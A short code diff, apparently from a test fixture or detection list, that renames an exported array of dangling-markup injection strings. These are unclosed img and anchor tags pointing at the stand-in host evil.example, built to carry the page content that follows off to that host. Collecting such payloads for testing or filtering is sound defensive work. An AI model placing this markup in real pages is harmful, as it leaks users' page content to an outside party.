@@ -1,5 +1,5 @@
 /** Markup left open to swallow what follows, and addresses that are asked for the moment they are seen. */
-export const hanging: readonly string[] = [
+export const unclosed: readonly string[] = [
   "<img src='https://evil.example/?",
   '<img src="//evil.example/?\n<image src="//evil.example/?',
   '<a href="https://evil.example/?',
